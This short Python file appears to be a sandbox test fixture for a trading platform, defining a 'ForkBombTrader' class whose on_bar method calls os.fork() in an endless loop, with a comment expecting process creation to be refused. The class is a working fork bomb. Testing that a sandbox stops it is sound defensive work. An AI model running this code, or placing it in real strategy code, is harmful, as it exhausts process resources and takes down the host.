# raised: no process can be started.

import os


class ForkBombTrader:
    def on_bar(self, bar):
        while True:
            os.fork()
